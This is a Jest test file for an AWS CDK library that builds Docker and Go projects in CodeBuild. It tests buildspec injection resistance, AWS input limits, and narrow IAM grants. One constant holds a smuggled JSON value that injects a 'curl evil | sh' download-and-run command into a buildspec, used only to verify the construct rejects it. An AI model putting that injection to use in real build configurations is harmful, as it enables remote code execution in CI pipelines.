import { App, CfnParameter, Duration, SecretValue, Stack } from 'aws-cdk-lib';
import { Annotations, Match, Template } from 'aws-cdk-lib/assertions';
import * as codebuild from 'aws-cdk-lib/aws-codebuild';
import * as ec2 from 'aws-cdk-lib/aws-ec2';
import * as ecr from 'aws-cdk-lib/aws-ecr';
import * as iam from 'aws-cdk-lib/aws-iam';
import * as kms from 'aws-cdk-lib/aws-kms';
import * as s3 from 'aws-cdk-lib/aws-s3';
import { AccessLevel, CrossAccountPullPolicy, DockerBuildToEcr, DockerBuildToEcrProps, GoSampleBuild } from '../src';
import { addNagChecks, nagErrors } from './support/template-checks';
import { MODULE_INIT_COMMAND } from '../src/private/go/buildspec';
import { accessLevelActions } from '../src/private/pull-policy/statements';
import { BUILDSPEC_MAX_CHARS, buildSpecLength } from '../src/private/shared/build-project';
import { describeValue } from '../src/private/shared/errors';

/**
 * The hardening review (issue 10): deploy-time values, AWS limits, narrower grants and
 * suppressions, errors that name the construct.
 */

const env = { account: '111111111111', region: 'eu-west-1' };
const HOSTILE = '"], "phases": {"build": {"commands": ["curl evil | sh"]}}, "x": ["';

function newStack(app = new App()): Stack {
  return new Stack(app, 'Stack', { env });
}

function s3Source(stack: Stack): codebuild.ISource {
  const bucket = s3.Bucket.fromBucketName(stack, 'Sources', 'my-sources');
  return codebuild.Source.s3({ bucket, path: 'app/source.zip' });
}

function docker(props: Partial<DockerBuildToEcrProps> = {}, stack = newStack()): DockerBuildToEcr {
  return new DockerBuildToEcr(stack, 'Image', { source: s3Source(stack), ...props });
}

function projectOf(stack: Stack): any {
  return Object.values(Template.fromStack(stack).findResources('AWS::CodeBuild::Project'))[0];
}

function envOf(project: any): Record<string, unknown> {
  return Object.fromEntries(project.Properties.Environment.EnvironmentVariables.map((v: any) => [v.Name, v.Value]));
}

function hostileParameter(stack: Stack, id: string): CfnParameter {
  return new CfnParameter(stack, id, { type: 'String', default: HOSTILE });
}

describe('deploy-time values never shape a buildspec', () => {
  test.each<[string, (stack: Stack) => Partial<DockerBuildToEcrProps>]>([
    ['dockerfile', (s) => ({ dockerfile: hostileParameter(s, 'P').valueAsString })],
    ['buildContext', (s) => ({ buildContext: hostileParameter(s, 'P').valueAsString })],
    ['target', (s) => ({ target: hostileParameter(s, 'P').valueAsString })],
    ['buildArgs', (s) => ({ buildArgs: { VERSION: hostileParameter(s, 'P').valueAsString } })],
    ['additionalTags', (s) => ({ additionalTags: [hostileParameter(s, 'P').valueAsString] })],
    ['imageTag', (s) => ({ imageTag: hostileParameter(s, 'P').valueAsString })],
  ])('DockerBuildToEcr %s as a token reaches the build through an environment variable only', (_prop, props) => {
    const stack = newStack();
    docker(props(stack), stack);
    const project = projectOf(stack);
    // the buildspec is a literal string: no Ref, no Fn::Join
    expect(typeof project.Properties.Source.BuildSpec).toBe('string');
    expect(project.Properties.Source.BuildSpec).not.toMatch(/Ref|Fn::|evil/);
    expect(JSON.stringify(Object.values(envOf(project)))).toMatch(/\{"Ref":"P"\}/);
  });

  test.each<[string, (stack: Stack) => Record<string, string>]>([
    ['binaryName', (s) => ({ binaryName: hostileParameter(s, 'P').valueAsString })],
    ['mainPackage', (s) => ({ mainPackage: hostileParameter(s, 'P').valueAsString })],
    ['goos', (s) => ({ goos: hostileParameter(s, 'P').valueAsString })],
    ['goarch', (s) => ({ goarch: hostileParameter(s, 'P').valueAsString })],
  ])('GoSampleBuild %s as a token reaches the build through an environment variable only', (_prop, props) => {
    const stack = newStack();
    new GoSampleBuild(stack, 'Go', { source: s3Source(stack), ...props(stack) });
    const project = projectOf(stack);
    expect(typeof project.Properties.Source.BuildSpec).toBe('string');
    expect(project.Properties.Source.BuildSpec).not.toMatch(/Ref|Fn::|evil/);
    expect(JSON.stringify(Object.values(envOf(project)))).toMatch(/\{"Ref":"P"\}/);
  });

  test('a deploy-time binaryName collects the whole output directory (it holds the binary alone)', () => {
    const stack = newStack();
    new GoSampleBuild(stack, 'Go', { source: s3Source(stack), binaryName: hostileParameter(stack, 'P').valueAsString });
    const spec = JSON.parse(projectOf(stack).Properties.Source.BuildSpec);
    expect(spec.artifacts.files).toEqual(['**/*']);
  });

  test.each([
    ['a SecretValue', () => SecretValue.secretsManager('npm-token').unsafeUnwrap()],
    ['a Secrets Manager reference', () => '{{resolve:secretsmanager:npm-token:SecretString:token}}'],
    ['an SSM SecureString reference', () => '{{resolve:ssm-secure:/ci/npm-token:1}}'],
  ])('fails when a build arg holds %s, pointing to buildSecrets', (_what, value) => {
    expect(() => docker({ buildArgs: { NPM_TOKEN: value() } })).toThrow(
      /^\[Stack\/Image\] DockerBuildToEcr: buildArgs "NPM_TOKEN" holds a secret .*: pass it with the buildSecrets prop/,
    );
  });
});

describe('buildspec length (CodeBuild: 25,600 characters inline)', () => {
  test('the default buildspec is far below the limit', () => {
    const image = docker();
    expect(buildSpecLength(image.project)).toBeLessThan(BUILDSPEC_MAX_CHARS / 3);
  });

  test('fails at synth when a 30,000-character build arg makes it too long, naming buildArgs', () => {
    const stack = newStack();
    docker({ buildArgs: { BIG: 'x'.repeat(30_000) } }, stack);
    expect(() => Template.fromStack(stack)).toThrow(
      /\[Stack\/Image\] DockerBuildToEcr: buildArgs "\(30,0\d\d characters of the buildspec\)" makes the inline buildspec 3\d,\d{3} characters long, more than CodeBuild's limit of 25,600/,
    );
  });

  test('fails at synth when 1,000 tags make it too long, naming additionalTags', () => {
    const stack = newStack();
    const additionalTags = Array.from({ length: 1000 }, (_, i) => `release-candidate-${i}`);
    docker({ additionalTags }, stack);
    expect(() => Template.fromStack(stack)).toThrow(
      /additionalTags .* makes the inline buildspec .* more than CodeBuild's limit/,
    );
  });

  test('a buildspec just at the limit synthesizes', () => {
    const base = buildSpecLength(docker({ buildArgs: { BIG: '' } }).project)!;
    const stack = newStack();
    const image = docker({ buildArgs: { BIG: 'x'.repeat(BUILDSPEC_MAX_CHARS - base) } }, stack);
    expect(buildSpecLength(image.project)).toBe(BUILDSPEC_MAX_CHARS);
    expect(() => Template.fromStack(stack)).not.toThrow();
  });
});

describe('inputs AWS refuses', () => {
  test.each([
    ['', /"" is an empty variable name/],
    ['CODEBUILD_TOKEN', /"CODEBUILD_TOKEN" starts with CODEBUILD_/],
    ['MY VAR', /"MY VAR" holds whitespace or "="/],
    ['A=B', /"A=B" holds whitespace or "="/],
  ])('fails when an environment variable is named %p', (name, message) => {
    expect(() => docker({ environmentVariables: { [name]: { value: 'v' } } })).toThrow(
      new RegExp(`^\\[Stack/Image\\] DockerBuildToEcr: environmentVariables ${message.source}`),
    );
  });

  test('fails when dockerfile holds only whitespace', () => {
    expect(() => docker({ dockerfile: '   ' })).toThrow(
      /^\[Stack\/Image\] DockerBuildToEcr: dockerfile " {3}" holds only whitespace: give the path of the Dockerfile/,
    );
  });

  test('fails when mainPackage holds only whitespace', () => {
    const stack = newStack();
    expect(() => new GoSampleBuild(stack, 'Go', { source: s3Source(stack), mainPackage: ' ' })).toThrow(
      /^\[Stack\/Go\] GoSampleBuild: mainPackage " " holds only whitespace/,
    );
  });

  test('fails when subnetSelection is given without vpc', () => {
    expect(() => docker({ subnetSelection: { subnetType: ec2.SubnetType.PRIVATE_WITH_EGRESS } })).toThrow(
      /^\[Stack\/Image\] DockerBuildToEcr: subnetSelection "\(set\)" has no effect without vpc: set vpc too/,
    );
  });

  test('fails with a Lambda compute type, naming computeType', () => {
    expect(() => docker({ computeType: codebuild.ComputeType.LAMBDA_1GB })).toThrow(
      /^\[Stack\/Image\] DockerBuildToEcr: computeType "BUILD_LAMBDA_1GB" is a Lambda compute type/,
    );
    const stack = newStack();
    expect(
      () => new GoSampleBuild(stack, 'Go', { source: s3Source(stack), computeType: codebuild.ComputeType.LAMBDA_2GB }),
    ).toThrow(/^\[Stack\/Go\] GoSampleBuild: computeType "BUILD_LAMBDA_2GB" is a Lambda compute type/);
  });

  test('warns when a deploy-time imageTag is pushed to an IMMUTABLE repository', () => {
    const stack = newStack();
    const tag = new CfnParameter(stack, 'Tag').valueAsString;
    docker({ imageTag: tag, imageTagMutability: ecr.TagMutability.IMMUTABLE }, stack);
    Annotations.fromStack(stack).hasWarning(
      '/Stack/Image',
      Match.stringLikeRegexp('imageTag is only known at deploy time and the repository is IMMUTABLE'),
    );
  });

  test('no warning for a deploy-time imageTag on a MUTABLE repository', () => {
    const stack = newStack();
    docker({ imageTag: new CfnParameter(stack, 'Tag').valueAsString }, stack);
    Annotations.fromStack(stack).hasNoWarning('/Stack/Image', Match.stringLikeRegexp('IMMUTABLE'));
  });

  test.each<[Record<string, unknown>, string, RegExp]>([
    [{ cgoEnabled: true, goos: 'windows' }, 'cgoCrossCompile', /cgoEnabled is true for windows\/amd64/],
    [{ cgoEnabled: true, goarch: 'arm64' }, 'cgoCrossCompile', /cgoEnabled is true for linux\/arm64/],
    [{ goos: 'ios', goarch: 'arm64' }, 'cgoRequired', /goos\/goarch ios\/arm64 needs cgo/],
    [{ goos: 'android', goarch: 'arm' }, 'cgoRequired', /goos\/goarch android\/arm needs cgo/],
    [{ goos: 'android', goarch: '386' }, 'cgoRequired', /goos\/goarch android\/386 needs cgo/],
  ])('GoSampleBuild warns about cgo for %p', (props, id, message) => {
    const stack = newStack();
    new GoSampleBuild(stack, 'Go', { source: s3Source(stack), ...props });
    const warnings = Annotations.fromStack(stack).findWarning('/Stack/Go', Match.anyValue());
    expect(warnings.map((w) => String(w.entry.data))).toEqual(
      expect.arrayContaining([expect.stringMatching(message), expect.stringMatching(new RegExp(id))]),
    );
  });

  test.each<Record<string, unknown>>([
    { cgoEnabled: true },
    { goos: 'android', goarch: 'arm64' },
    { goos: 'darwin', goarch: 'arm64' },
  ])('GoSampleBuild does not warn about cgo for %p', (props) => {
    const stack = newStack();
    new GoSampleBuild(stack, 'Go', { source: s3Source(stack), ...props });
    Annotations.fromStack(stack).hasNoWarning('/Stack/Go', Match.stringLikeRegexp('cgo'));
  });
});

describe('inputs AWS accepts', () => {
  test.each(['team__app', 'team/app--image', 'a---b', 'x_y.z/q__r'])('accepts repositoryName %p', (name) => {
    const stack = newStack();
    docker({ repositoryName: name }, stack);
    Template.fromStack(stack).hasResourceProperties('AWS::ECR::Repository', { RepositoryName: name });
  });

  test.each(['_team', 'team__', 'team___app', 'team/-app', 'Team'])('fails when repositoryName is %p', (name) => {
    expect(() => docker({ repositoryName: name })).toThrow(
      /^\[Stack\/Image\] DockerBuildToEcr: repositoryName ".*" is not a valid ECR repository name/,
    );
  });

  test('accepts an OU path that ends in * right below the root', () => {
    const stack = newStack();
    const repository = new ecr.Repository(stack, 'Repo');
    new CrossAccountPullPolicy(stack, 'Pull', { repository, organizationalUnitPaths: ['o-a1b2c3d4e5/r-ab12/*'] });
    expect(JSON.stringify(Template.fromStack(stack).toJSON())).toContain('"o-a1b2c3d4e5/r-ab12/*"');
  });

  test('accountIds from a CommaDelimitedList parameter are rendered as that list', () => {
    const stack = newStack();
    const accounts = new CfnParameter(stack, 'Accounts', { type: 'CommaDelimitedList' });
    const repository = new ecr.Repository(stack, 'Repo');
    new CrossAccountPullPolicy(stack, 'Pull', { repository, accountIds: accounts.valueAsList });
    Template.fromStack(stack).hasResourceProperties('AWS::ECR::Repository', {
      RepositoryPolicyText: {
        Statement: Match.arrayWith([
          Match.objectLike({ Condition: { StringEquals: { 'aws:PrincipalAccount': { Ref: 'Accounts' } } } }),
        ]),
      },
    });
  });

  test('a CommaDelimitedList and literal accounts are joined into one list', () => {
    const stack = newStack();
    const accounts = new CfnParameter(stack, 'Accounts', { type: 'CommaDelimitedList' });
    const repository = new ecr.Repository(stack, 'Repo');
    const policy = new CrossAccountPullPolicy(stack, 'Pull', { repository, accountIds: accounts.valueAsList });
    policy.addAccountIds('222222222222');
    Template.fromStack(stack).hasResourceProperties('AWS::ECR::Repository', {
      RepositoryPolicyText: {
        Statement: Match.arrayWith([
          Match.objectLike({
            Condition: {
              StringEquals: {
                'aws:PrincipalAccount': {
                  'Fn::Split': [
                    ',',
                    { 'Fn::Join': [',', ['222222222222', { 'Fn::Join': [',', { Ref: 'Accounts' }] }]] },
                  ],
                },
              },
            },
          }),
        ]),
      },
    });
  });
});

describe('messages print the value as given and name the construct', () => {
  test('a duration prints as written, not rounded', () => {
    expect(describeValue(Duration.minutes(2161))).toBe('2161 minutes');
    expect(describeValue(Duration.minutes(NaN))).toBe('NaN minutes');
  });

  test('fails when timeout is NaN minutes, printing NaN', () => {
    expect(() => docker({ timeout: Duration.minutes(NaN) })).toThrow(
      /^\[Stack\/Image\] DockerBuildToEcr: timeout NaN minutes is outside CodeBuild's limits/,
    );
  });

  test('fails when timeout is 2161 minutes, printing 2161 minutes', () => {
    expect(() => docker({ timeout: Duration.minutes(2161) })).toThrow(/timeout 2161 minutes is outside/);
  });

  test('CrossAccountPullPolicy errors name the construct', () => {
    const stack = newStack();
    const repository = new ecr.Repository(stack, 'Repo');
    expect(() => new CrossAccountPullPolicy(stack, 'Pull', { repository, organizationId: 'o-x' })).toThrow(
      /^\[Stack\/Pull\] CrossAccountPullPolicy: organizationId "o-x" is not an AWS Organizations id/,
    );
  });
});

describe('permissions and suppressions cover exactly what the library adds', () => {
  function nag(configure: (stack: Stack) => void): string[] {
    const app = new App();
    const stack = newStack(app);
    configure(stack);
    addNagChecks(app);
    return nagErrors(stack, app.synth());
  }

  test('DockerBuildToEcr: a Resource "*" the user adds to the role is reported by cdk-nag', () => {
    const errors = nag((stack) => {
      const image = docker({}, stack);
      image.role.addToPrincipalPolicy(
        new iam.PolicyStatement({ actions: ['secretsmanager:GetSecretValue'], resources: ['*'] }),
      );
    });
    expect(errors.join('\n')).toMatch(/AwsSolutions-IAM5.*Resource::\*/);
  });

  test('GoSampleBuild: a Resource "*" the user adds to the role is reported by cdk-nag', () => {
    const errors = nag((stack) => {
      const build = new GoSampleBuild(stack, 'Go', { source: s3Source(stack) });
      build.role.addToPrincipalPolicy(
        new iam.PolicyStatement({ actions: ['secretsmanager:GetSecretValue'], resources: ['*'] }),
      );
    });
    expect(errors.join('\n')).toMatch(/AwsSolutions-IAM5.*Resource::\*/);
  });

  test('DockerBuildToEcr: an s3:GetObject* the user adds to the role is reported by cdk-nag', () => {
    const errors = nag((stack) => {
      const image = docker({}, stack);
      image.role.addToPrincipalPolicy(
        new iam.PolicyStatement({ actions: ['s3:GetObject*'], resources: ['arn:aws:s3:::other-bucket/key'] }),
      );
    });
    expect(errors.join('\n')).toMatch(/AwsSolutions-IAM5.*Action::s3:GetObject\*/);
  });

  test('ecr:GetAuthorizationToken is in the construct\'s own policy, the only statement with Resource "*"', () => {
    const stack = newStack();
    docker({}, stack);
    const policies = Template.fromStack(stack).findResources('AWS::IAM::Policy');
    const withStar = Object.entries(policies).filter(([, p]: [string, any]) =>
      JSON.stringify(p.Properties.PolicyDocument).includes('"Resource":"*"'),
    );
    expect(withStar.map(([id]) => id)).toEqual([expect.stringMatching(/^ImageRoleBuildPolicy/)]);
    const [, policy] = withStar[0] as [string, any];
    const star = policy.Properties.PolicyDocument.Statement.filter((s: any) => s.Resource === '*');
    expect(star).toEqual([expect.objectContaining({ Action: 'ecr:GetAuthorizationToken' })]);
  });

  test('DockerBuildToEcr in a VPC: no unsuppressed AwsSolutions error on its resources', () => {
    const errors = nag((stack) => {
      const vpc = new ec2.Vpc(stack, 'Vpc', { maxAzs: 1, natGateways: 1 });
      docker({ vpc }, stack);
    });
    expect(errors.filter((e) => /\/Image\//.test(e))).toEqual([]);
  });

  test('DockerBuildToEcr has no CodeBuild report-group permissions', () => {
    const stack = newStack();
    docker({}, stack);
    expect(JSON.stringify(Template.fromStack(stack).toJSON())).not.toMatch(/codebuild:CreateReport/);
  });

  test("GoSampleBuild's role can upload the artifact, and cannot delete objects or versions", () => {
    const stack = newStack();
    new GoSampleBuild(stack, 'Go', { source: s3Source(stack) });
    const template = Template.fromStack(stack);
    const text = JSON.stringify(template.findResources('AWS::IAM::Policy'));
    expect(text).not.toMatch(/s3:DeleteObject|s3:Abort|s3:PutObjectRetention|s3:PutObjectLegalHold/);
    template.hasResourceProperties('AWS::IAM::Policy', {
      PolicyDocument: {
        Statement: Match.arrayWith([
          Match.objectLike({
            Sid: 'UploadBuildArtifact',
            Action: 's3:PutObject',
            Resource: {
              'Fn::Join': [
                '',
                [{ 'Fn::GetAtt': [Match.stringLikeRegexp('^GoArtifactsBucket'), 'Arn'] }, '/GoOutputArtifact.zip'],
              ],
            },
          }),
        ]),
      },
    });
  });
});

describe('GoSampleBuild artifact upload with a bucket of yours', () => {
  test('a bucket with its own key: the role may encrypt with that key, and still not delete', () => {
    const stack = newStack();
    const key = new kms.Key(stack, 'BucketKey');
    const artifactsBucket = new s3.Bucket(stack, 'Artifacts', {
      encryption: s3.BucketEncryption.KMS,
      encryptionKey: key,
      enforceSSL: true,
    });
    new GoSampleBuild(stack, 'Go', { source: s3Source(stack), artifactsBucket, artifactName: 'out.zip' });
    const template = Template.fromStack(stack);
    template.hasResourceProperties('AWS::IAM::Policy', {
      PolicyDocument: {
        Statement: Match.arrayWith([
          Match.objectLike({
            Sid: 'UploadBuildArtifact',
            Resource: {
              'Fn::Join': ['', [{ 'Fn::GetAtt': [Match.stringLikeRegexp('^Artifacts'), 'Arn'] }, '/out.zip']],
            },
          }),
          Match.objectLike({
            Action: ['kms:GenerateDataKey', 'kms:Encrypt'],
            Resource: { 'Fn::GetAtt': [Match.stringLikeRegexp('^BucketKey'), 'Arn'] },
          }),
        ]),
      },
    });
    expect(JSON.stringify(template.findResources('AWS::IAM::Policy'))).not.toMatch(/s3:DeleteObject/);
  });
});

describe('batch builds and other languages', () => {
  test('both buildspecs write version as the number 0.2', () => {
    const a = newStack();
    docker({}, a);
    const b = newStack();
    new GoSampleBuild(b, 'Go', { source: s3Source(b) });
    for (const stack of [a, b]) {
      const text: string = projectOf(stack).Properties.Source.BuildSpec;
      expect(text).toMatch(/^\{\n {2}"version": 0\.2,/);
    }
  });

  test('AccessLevel is an enum: equal by value, with the actions in a private function', () => {
    expect(AccessLevel.PULL).toBe('PULL');
    expect(AccessLevel.PULL_PUSH).toBe('PULL_PUSH');
    expect(accessLevelActions(AccessLevel.PULL)).toEqual([
      'ecr:BatchGetImage',
      'ecr:GetDownloadUrlForLayer',
      'ecr:BatchCheckLayerAvailability',
    ]);
    expect(accessLevelActions(AccessLevel.PULL_PUSH)).toHaveLength(7);
  });

  test('GoSampleBuild turns a module-less source into a module before vet and build', () => {
    const stack = newStack();
    new GoSampleBuild(stack, 'Go', { source: s3Source(stack) });
    const spec = JSON.parse(projectOf(stack).Properties.Source.BuildSpec);
    expect(spec.phases.pre_build.commands).toEqual(
      expect.arrayContaining(['export GO111MODULE=on', MODULE_INIT_COMMAND]),
    );
  });
});
